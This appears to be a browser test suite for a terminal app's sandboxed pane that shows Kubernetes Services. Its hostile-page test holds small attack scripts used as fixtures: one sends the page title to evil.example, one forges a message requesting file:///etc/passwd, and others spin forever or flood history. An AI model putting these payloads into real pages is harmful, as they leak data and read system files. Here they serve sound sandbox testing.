/*
 * The browser view: pages of Services and Ingresses in a frame that reaches nothing but the cluster's
 * data path, through a rollout, a form, a redirect loop, too large an answer; and a hostile page.
 */
import assert from "node:assert/strict";
import { once } from "node:events";
import net from "node:net";
import { test } from "node:test";
import { violations } from "./axe.mjs";
import { launch, open, PHONE, ready, screenshot, sh, SIZES } from "./browser.mjs";
import { go, serve, shown, status } from "./pane.mjs";
import { HOSTILE, SHOP } from "./pane-pages.mjs";
import { postsAndSockets } from "./pane-posts.mjs";
import { storeys } from "./pane-storeys.mjs";
import { over } from "./visits.mjs";

const site = over("out/site");

for (const [name, options] of Object.entries(SIZES)) {
  test(`a Service opens beside the terminal and follows a rollout, ${name}`, async (t) => {
    const page = await site.visit(t, "map", options);
    const image = "us-docker.pkg.dev/google-samples/containers/gke/hello-app";
    await sh(page, `kubectl create deployment hello --image=${image}:1.0 --replicas=2`);
    await sh(page, "kubectl expose deployment hello --type=NodePort --port=8080");
    await sh(page, "kubectl rollout status deployment hello --timeout=120s");
    await page.evaluate(() => (location.hash = "#/api/v1/namespaces/default/services/hello"));
    if (options === PHONE) await page.getByRole("button", { name: "Inspect" }).click();
    await page.getByRole("link", { name: "Open 8080" }).click();
    await shown(page).getByText("Version: 1.0.0").waitFor();
    await status(page).getByText("200 OK").waitFor();
    await status(page)
      .locator(".who a", { hasText: /^hello-/ })
      .waitFor();
    await screenshot(page, `pane-service-${name}`);
    await sh(page, `kubectl set image deployment hello hello-app=${image}:2.0`);
    await shown(page).getByText("Version: 2.0.0").waitFor({ timeout: 60_000 });
    await sh(page, "kubectl rollout status deployment hello --timeout=120s");
    await shown(page).getByText("Version: 2.0.0").waitFor();
    assert.deepEqual(await violations(page), []);

    // An address of it that a program prints leads there, at its path; on a phone, too.
    await page.evaluate(() => (location.hash = "#/map"));
    await page.evaluate(() =>
      document
        .querySelector("tn-terminal")
        .run(
          "kubectl get svc hello -o jsonpath='see http://hello.default.svc:{.spec.ports[0].port}/printed{\"\\n\"}'",
        ),
    );
    const printed = page.locator("tn-terminal a.url[href*=printed]").last();
    await printed.click();
    await shown(page).getByText("Version: 2.0.0").waitFor();
    assert.match(page.url(), /#\/browser\/services\/default\/hello\?entry=8080&at=%2Fprinted$/);

    await storeys(page, options);
    // Nobody serves: said, with the command that looks further.
    await sh(page, "kubectl scale deployment hello --replicas=0");
    const problem = page.locator("tn-browser .problem");
    await problem.getByText("no endpoint of Service hello is ready").waitFor();
    await problem
      .getByText("kubectl get endpointslices -l kubernetes.io/service-name=hello")
      .waitFor();
    await screenshot(page, `pane-refused-${name}`);
    assert.deepEqual(await violations(page), []);
    assert.deepEqual(await page.evaluate(() => globalThis.violated), []);
  });
}

test("styles, images, scripts, links, forms and requests of a page", async (t) => {
  const page = await site.visit(t, "map");
  await serve(page, "shop", SHOP);
  await go(page, "shop");
  const body = shown(page).locator("body");
  await shown(page).getByText("inline after function").waitFor();
  await shown(page)
    .locator('body[data-asked="worldworld"][data-late="31"][data-script="ran"]')
    .waitFor();
  const styles = await body.evaluate((b) => {
    const of = (selector) => getComputedStyle(b.querySelector(selector));
    return [of("h1").color, of("p").color, of("h1").backgroundImage.slice(0, 9)];
  });
  assert.deepEqual(styles, ["rgb(1, 2, 3)", "rgb(4, 5, 6)", 'url("blob']);
  assert.equal(
    await shown(page)
      .locator("#logo")
      .evaluate((img) => img.naturalWidth),
    31,
  );
  const address = page.getByRole("textbox", { name: "Address" });
  await page.waitForFunction(() => location.hash.includes("pushed"));
  assert.match(await address.inputValue(), /^http:\/\/10\.96\.\d+\.\d+\/index\.html\?pushed$/);
  await page.getByText("Its cookies are not sent back").waitFor();
  await page.getByText("(localStorage) is gone with the page").waitFor();
  await screenshot(page, "pane-shop-desktop");

  // The page before it has the same words and goes: a click on its link would be lost.
  await body.evaluate((b) => (b.dataset.left = "1"));
  await page.getByRole("button", { name: "Back" }).click();
  await shown(page).locator("body:not([data-left])").getByText("inline after function").waitFor();
  await shown(page).getByRole("link", { name: "Second" }).click();
  await shown(page).getByText("The second page").waitFor();
  await shown(page).getByText("The end").waitFor();
  assert.match(await address.inputValue(), /\/second\.html\?from=link#end$/);
  await page.getByRole("button", { name: "Back" }).click();
  await shown(page).getByRole("button", { name: "Search" }).click();
  await shown(page).getByText("The second page").waitFor();
  assert.match(await address.inputValue(), /\/second\.html\?q=a%26b$/);
  // Loaded again, it stays where it is scrolled to.
  await shown(page).locator("#end").scrollIntoViewIfNeeded();
  const scrolled = () =>
    shown(page)
      .locator("body")
      .evaluate(() => window.scrollY);
  const before = await scrolled();
  assert.ok(before > 1000, before);
  await page.getByRole("button", { name: "Reload" }).click();
  await page.waitForFunction(
    () => document.querySelector("tn-browser").shadowRoot.querySelectorAll("iframe").length === 1,
  );
  await shown(page).getByText("The second page").waitFor();
  await shown(page)
    .locator("body")
    .evaluate(
      (_body, y) =>
        new Promise((resolve) => {
          const look = () =>
            Math.abs(window.scrollY - y) < 2 ? resolve() : requestAnimationFrame(look);
          look();
        }),
      before,
    );
  // What is typed into the address leads on; nothing else than this Service is reached.
  await address.fill("/data.json");
  await address.press("Enter");
  await shown(page).getByText('{"hello": "world"}').waitFor();
  await address.fill("http://kubernetes.default/");
  await address.press("Enter");
  await page.getByText("from here only the addresses of shop are reached").waitFor();
});

test("a redirect loop, too large an answer, an Ingress", async (t) => {
  const page = await site.visit(t, "map");
  await serve(page, "edge", { "index.html": "<h1>edge</h1>" });
  await sh(
    page,
    `kubectl create configmap loops --from-literal=default.conf='server { listen 80; location /loop { return 302 /loop; } location / { root /usr/share/nginx/html; } }'`,
  );
  const pod = {
    apiVersion: "v1",
    kind: "Pod",
    metadata: { name: "loops", labels: { app: "loops" } },
    spec: {
      initContainers: [
        {
          name: "fill",
          image: "busybox",
          command: ["sh", "-c", "head -c 104857600 /dev/zero > /big/zeros.txt"],
          volumeMounts: [{ name: "big", mountPath: "/big" }],
        },
      ],
      containers: [
        {
          name: "web",
          image: "nginx",
          ports: [{ containerPort: 80 }],
          volumeMounts: [
            { name: "big", mountPath: "/usr/share/nginx/html" },
            { name: "conf", mountPath: "/etc/nginx/conf.d" },
          ],
        },
      ],
      volumes: [
        { name: "big", emptyDir: {} },
        { name: "conf", configMap: { name: "loops" } },
      ],
    },
  };
  await sh(page, `kubectl apply -f - <<'EOF'\n${JSON.stringify(pod)}\nEOF`);
  await sh(page, "kubectl wait --for=condition=Ready pod/loops --timeout=120s");
  await go(page, "loops", { resource: "pods", at: "/loop" });
  await page.getByText("more than 20 redirects").waitFor();
  await go(page, "loops", { resource: "pods", at: "/zeros.txt" });
  await page.getByRole("textbox", { name: "Address" }).fill("/zeros.txt");
  await page.getByRole("textbox", { name: "Address" }).press("Enter");
  await page.getByText("larger than this view takes (16 MiB)").waitFor({ timeout: 60_000 });
  await page.getByText("16.0 MiB").waitFor();

  await sh(page, "kubectl create ingress edge --rule='edge.example/*=edge:80'");
  await sh(
    page,
    "kubectl wait --for=jsonpath='{.status.loadBalancer.ingress}' ingress/edge --timeout=60s",
  );
  await go(page, "edge", { resource: "ingresses" });
  await shown(page).getByRole("heading", { name: "edge" }).waitFor();
  assert.equal(
    await page.getByRole("textbox", { name: "Address" }).inputValue(),
    "http://edge.example/",
  );
});

test("the guestbook's form, forms that post, and WebSockets", async (t) => {
  const page = await site.visit(t, "map");
  const gke = "us-docker.pkg.dev/google-samples/containers/gke";
  for (const line of [
    "kubectl create deployment redis-leader --image=docker.io/redis:6.0.5",
    "kubectl expose deployment redis-leader --port=6379",
    `kubectl create deployment redis-follower --image=${gke}/gb-redis-follower:v2`,
    "kubectl expose deployment redis-follower --port=6379",
    `kubectl create deployment frontend --image=${gke}/gb-frontend:v5`,
    "kubectl expose deployment frontend --port=80 --type=LoadBalancer",
    "kubectl set env deployment/frontend GET_HOSTS_FROM=dns",
    "kubectl rollout status deployment/redis-leader --timeout=120s",
    "kubectl rollout status deployment/redis-follower --timeout=120s",
    "kubectl rollout status deployment/frontend --timeout=120s",
    "kubectl wait --for=jsonpath='{.status.loadBalancer.ingress}' service/frontend --timeout=60s",
  ]) {
    await sh(page, line);
  }
  await go(page, "frontend");
  await shown(page).getByRole("textbox", { name: "Message" }).fill("hello from the pane");
  await shown(page).getByRole("button", { name: "Submit" }).click();
  await shown(page).getByRole("listitem").getByText("hello from the pane").waitFor();
  await screenshot(page, "pane-guestbook-desktop");
  assert.match(
    await page.getByRole("textbox", { name: "Address" }).inputValue(),
    /^http:\/\/10\.97\.0\.\d+\/$/,
  );
  await postsAndSockets(page);
});

test("a hostile page reaches neither the page, its storage, the network nor the hub", async (t) => {
  // Whoever is behind evil.example. Chromium opens a connection before it asks the policy whether a
  // navigation may go there, and then says nothing on it: what counts is what is said.
  const heard = [];
  const evil = net.createServer((socket) => {
    socket.on("error", () => undefined);
    socket.on("data", (data) => {
      heard.push(data.toString("latin1").slice(0, 200));
      socket.end("HTTP/1.1 204 No Content\r\n\r\n");
    });
  });
  evil.listen(0, "127.0.0.1");
  await once(evil, "listening");
  t.after(() => evil.close());
  const browser = await launch([
    `--host-resolver-rules=MAP *.example 127.0.0.1:${evil.address().port}`,
  ]);
  t.after(() => browser.close());
  const page = await open(t, browser, `${site.url}#/map`);
  await ready(page);
  const { origin } = new URL(site.url);
  await serve(page, "hostile", {
    "index.html": HOSTILE.replaceAll("HOST", JSON.stringify(origin)),
    "away.html": `<h1>away</h1><script>addEventListener("load", () => { location.href = "http://evil.example/away?" + document.title; });</script>`,
    "spin.html": `<h1>spin</h1><script>for (;;);</script>`,
    "flood.html": `<h1>flood</h1><script>setInterval(() => { for (let i = 0; i < 400; i++) history.pushState(0, "", "/" + i); }, 1);</script>`,
    "forged.html": `<h1>forged</h1><script>
      const post = MessagePort.prototype.postMessage;
      window.MessagePort.prototype.postMessage = function () { post.call(this, { type: "ask", id: 1, url: "file:///etc/passwd", method: "GET / HTTP/1.1", headers: "x", redirect: "follow" }); };
      fetch("/index.html");</script>`,
    "again.html": `<h1>again</h1><script>addEventListener("load", () => location.reload());</script>`,
  });
  await go(page, "hostile");
  const done = shown(page).locator("body[data-done]");
  await done.waitFor({ timeout: 60_000 });
  const got = JSON.parse(await done.getAttribute("data-done"));
  assert.deepEqual(got, {
    origin: "null",
    "parent document": "refused",
    "parent storage": "refused",
    "parent cluster": "refused",
    "top address": "refused",
    popup: "refused",
    network: "refused",
    hub: "refused",
    "fresh fetch": "refused",
    "fresh fetch of the page": "refused",
    "fresh request": "refused",
    socket: "refused",
    beacon: got.beacon,
    storage: "refused",
    database: "refused",
    form: got.form,
  });
  assert.equal(new URL(page.url()).origin, origin);
  await screenshot(page, "pane-hostile-desktop");

  await go(page, "hostile", { at: "/away.html" });
  const address = page.getByRole("textbox", { name: "Address" });
  const type = async (path) => {
    await address.fill(path);
    await address.press("Enter");
  };
  await type("/away.html");
  await page.getByText("Its script went to another address").waitFor();
  await type("/again.html");
  await page.getByText("It loads itself again and again").waitFor();
  await type("/forged.html");
  await page.getByText("It sent what is no message of a page's").waitFor();
  await type("/flood.html");
  await page.getByText("messages without end").waitFor();
  // A page that spins holds up itself: this page answers, and leads on.
  await type("/spin.html");
  await shown(page)
    .getByText("spin")
    .waitFor({ timeout: 5000 })
    .catch(() => undefined);
  await sh(page, "kubectl get nodes");
  await type("/index.html");
  await shown(page).getByRole("heading", { name: "hostile" }).waitFor();
  assert.deepEqual(heard, []);
  // It would have been heard.
  await page
    .context()
    .newPage()
    .then((other) => other.goto("http://evil.example/"))
    .catch(() => undefined);
  assert.notDeepEqual(heard, []);
});
